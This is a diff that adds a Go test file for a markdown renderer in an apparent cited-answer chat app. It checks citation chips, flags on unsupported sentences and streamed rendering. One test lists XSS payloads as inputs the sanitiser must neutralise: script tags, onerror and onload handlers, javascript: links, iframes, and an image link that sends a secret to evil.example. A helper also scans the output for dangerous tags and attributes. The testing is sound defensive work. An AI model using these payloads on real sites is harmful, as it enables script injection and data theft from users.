@@ -1,0 +1,150 @@
+package views
+
+import (
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"footnote/chat"
+)
+
+func citeOne(n int) (chat.Citation, bool) {
+	if n > 2 {
+		return chat.Citation{}, false
+	}
+	return chat.Citation{Number: n, DocumentID: "d1", Title: `A "title" <img src=x onerror=alert(1)>`, Page: 4, URL: "/d/d1?c=run.1", Check: chat.CheckVerified}, true
+}
+
+func whole(t *testing.T, src string, unsupported ...string) string {
+	t.Helper()
+	var b strings.Builder
+	for _, block := range NewMarkdown().Whole(src, unsupported, citeOne) {
+		b.WriteString(block.HTML)
+	}
+	return b.String()
+}
+
+// harm lists what a document must not hold: scripts, handlers, addresses that are not ours or the reader's to follow.
+func harm(t *testing.T, doc string) []string {
+	t.Helper()
+	root, err := html.Parse(strings.NewReader(doc))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var found []string
+	for n := range root.Descendants() {
+		if n.Type != html.ElementNode {
+			continue
+		}
+		switch n.Data {
+		case "script", "style", "iframe", "object", "embed", "img", "video", "audio", "base", "meta", "form", "input", "svg", "math":
+			found = append(found, "<"+n.Data+">")
+		}
+		for _, a := range n.Attr {
+			name := strings.ToLower(a.Key)
+			value := strings.ToLower(strings.TrimSpace(a.Val))
+			switch {
+			case strings.HasPrefix(name, "on"), strings.HasPrefix(name, "hx-"), name == "style", name == "src", name == "srcset":
+				found = append(found, name+"="+a.Val)
+			case name == "href" && !strings.HasPrefix(value, "/d/") && !strings.HasPrefix(value, "http") && !strings.HasPrefix(value, "mailto:"):
+				found = append(found, name+"="+a.Val)
+			}
+		}
+	}
+	return found
+}
+
+func TestHostileAnswersDoNothing(t *testing.T) {
+	for _, src := range []string{
+		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `![secret words](https://evil.example/?q=secret)`,
+		`[click](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)`, `<div hx-get="/agent" hx-trigger=load hx-on:click="x">x</div>`,
+		`<iframe src=//evil.example></iframe>`, `<a href="x" onclick="alert(1)">x</a>`, "```html\n<img src=x onerror=alert(1)>", `<svg/onload=alert(1)>`,
+		"| a |\n|---|\n| <img src=x onerror=alert(1)> |", `[x]: javascript:alert(1)` + "\n\n[x]", `<style>*{background:url(//evil.example)}</style>`,
+		"~~~\" onmouseover=\"alert(1)\nx\n~~~", "\uE0001\uE001<b onclick=x>", "![a][b]\n\n[b]: http://evil.example/x.png", "[1] <form action=/chat><input name=message></form>",
+		"<hx-partial hx-target=body><p>gone</p></hx-partial>", "<math><mtext><script>alert(1)</script></mtext></math>",
+	} {
+		if found := harm(t, whole(t, src)); len(found) > 0 {
+			t.Errorf("%q was drawn with %q:\n%s", src, found, whole(t, src))
+		}
+	}
+}
+
+func TestMarkdownOfAnswers(t *testing.T) {
+	for _, tt := range []struct{ name, src, want string }{
+		{"a number becomes a chip that sticks to its word", "Sound [1].", `Sound` + "\u2060" + `<a class="cite" href="/d/d1?c=run.1"`},
+		{"two numbers in a row are two chips", "Sound [1][2].", `data-n="2"`},
+		{"a chip names its place for screen readers, title and all", "x [1]", `aria-label="Source 1: A &#34;title&#34; &lt;img src=x onerror=alert(1)&gt;, page 4"`},
+		{"a number without a citation stays text", "See [7].", "See [7]."},
+		{"a number in code stays text", "`a[1]`", "<code>a[1]</code>"},
+		{"a link with a number as its text stays a link", "[1](https://example.org)", `href="https://example.org"`},
+		{"an image becomes its description", "![a chart](http://evil.example/x.png)", "<em>a chart</em>"},
+		{"headings stand under the question", "# Title", "<h3>Title</h3>"},
+		{"tables scroll by themselves and keep their alignment", "|a|b|\n|-|-:|\n|1|2|", `<td align="right">2</td>`},
+		{"code has its language and a copy button", "```go\nx := 1\n```", `<span>go</span><button class="btn bare small" type="button" data-do="copy">`},
+		{"maths stays readable", `$\frac{1}{n}\sum x_i$ and $a_1 + b_1$`, `$\frac{1}{n}\sum x_i$ and $a_1 + b_1$`},
+		{"private characters can't fake a chip", "\uE0001\uE001", "<p>1</p>"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := whole(t, tt.src); !strings.Contains(got, tt.want) {
+				t.Errorf("Whole(%q) = %s\nwant it to hold %s", tt.src, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestUnsupportedSentencesAreMarked(t *testing.T) {
+	for _, tt := range []struct{ name, src, sentence, want string }{
+		{"a plain sentence is underlined and flagged", "One. Two is here.", "Two is here.", `<span class="unsupported">Two is here.</span><span class="flag">`},
+		{"a list item is found without its dash", "- One\n- Two is here.", "- Two is here.", `<li><span class="unsupported">Two is here.</span><span class="flag">`},
+		{"marks that cross only get the flag", "**One. Two** is here.", "Two** is here.", `One. Two</strong> is here.<span class="flag">`},
+		{"a sentence with a chip keeps it", "Two is here [1].", "Two is here [1].", `</a>.</span><span class="flag">`},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := whole(t, tt.src, tt.sentence); !strings.Contains(got, tt.want) {
+				t.Errorf("Whole(%q) = %s\nwant it to hold %s", tt.src, got, tt.want)
+			}
+		})
+	}
+}
+
+// Whatever way an answer is cut into deltas, the blocks at its end are those of the whole.
+func TestStreamedBlocksAreThoseOfTheWhole(t *testing.T) {
+	src := "First paragraph with [1] and **bold** words.\n\n## Heading\n\n- one\n- two [2]\n\n  still two\n- three\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n" +
+		"```go\nfunc main() {\n\n}\n```\n\n> quoted\n> more\n\n1. first\n2. second\n\nLast words."
+	m := NewMarkdown()
+	want := m.Whole(src, nil, citeOne)
+	for size := 1; size <= 40; size++ {
+		var frozen []Block
+		var got []Block
+		settled := 0
+		for end := size; ; end += size {
+			end = min(end, len(src))
+			blocks, more := m.Tail(src[settled:end], len(frozen)+1, end < len(src), citeOne)
+			got = append(frozen[:len(frozen):len(frozen)], blocks...)
+			if more > 0 {
+				settled += more
+				frozen = append(frozen, blocks[:len(blocks)-1]...)
+			}
+			if end == len(src) {
+				break
+			}
+		}
+		if len(got) != len(want) {
+			t.Fatalf("in pieces of %d bytes: %d blocks, want %d", size, len(got), len(want))
+		}
+		for i := range want {
+			if got[i] != want[i] {
+				t.Fatalf("in pieces of %d bytes, block %d = %+v, want %+v", size, i, got[i], want[i])
+			}
+		}
+	}
+}
+
+func BenchmarkADelta(b *testing.B) {
+	m := NewMarkdown()
+	src := strings.Repeat("The roof is sound and the wall is dry. ", 8) + "[1] More words follow"
+	for b.Loop() {
+		m.Tail(src, 3, true, citeOne)
+	}
+}
